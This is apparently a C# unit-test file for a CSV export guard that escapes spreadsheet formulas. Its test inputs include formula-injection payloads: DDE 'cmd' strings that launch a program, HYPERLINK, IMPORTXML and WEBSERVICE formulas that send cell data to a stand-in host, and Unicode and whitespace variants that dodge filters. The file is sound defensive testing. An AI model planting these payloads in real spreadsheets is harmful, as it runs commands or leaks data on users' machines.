using CsCheck;
using Licensing.Api.Http;

namespace Licensing.Api.Tests.Http;

/// <summary>What a spreadsheet would execute is text when it comes from us.</summary>
public sealed class CsvTextTests
{
    [Theory]
    [InlineData("=1+1")]
    [InlineData("=cmd|' /C calc'!A0")]
    [InlineData("=HYPERLINK(\"http://example.com?x=\"&A1,\"Click\")")]
    [InlineData("=IMPORTXML(CONCAT(\"http://example.com?v=\", CONCATENATE(A2:E2)), \"//a/a10\")")]
    [InlineData("=WEBSERVICE(\"http://example.com\")")]
    [InlineData("+1+1")]
    [InlineData("+cmd|' /C calc'!A0")]
    [InlineData("-1+1")]
    [InlineData("-2+3+cmd|' /C calc'!A0")]
    [InlineData("@SUM(1+1)*cmd|' /C calc'!A0")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    [InlineData("\n=1+1")]
    [InlineData("  =1+1")]
    [InlineData("\u00A0=1+1")]
    [InlineData("\uFEFF=1+1")]
    [InlineData("\"=1+1")]
    [InlineData("\uFF1D1+1")]
    [InlineData("\uFF0B1+1")]
    [InlineData("\uFF0D1+1")]
    [InlineData("\uFF20SUM(1)")]
    [InlineData("\tx")]
    [InlineData("\rx")]
    public void A_formula_gets_an_apostrophe_and_loses_it_again(string formula)
    {
        var cell = new StringWriter();
        CsvText.WriteCell(cell, formula);
        Assert.StartsWith("\"'", cell.ToString());
        Assert.Equal("'" + formula, CsvText.Guard(formula));
        Assert.Equal(formula, CsvText.Unguard(CsvText.Guard(formula)));
    }

    [Theory]
    [InlineData("Kathmandu")]
    [InlineData("O'Brien")]
    [InlineData("'quoted'")]
    [InlineData("1-2")]
    [InlineData("")]
    public void Other_text_stays_as_it_is(string text) => Assert.Equal((text, text), (CsvText.Guard(text), CsvText.Unguard(text)));

    [Fact]
    public void Guarding_is_undone_for_every_text() => Gen.Char["'=@a \t\n\"+-"].Array[0, 8].Select(c => new string(c)).Sample(text =>
        CsvText.Unguard(CsvText.Guard(text)) == text && CsvText.Unguard(CsvText.Guard(CsvText.Guard(text))) == CsvText.Guard(text));
}
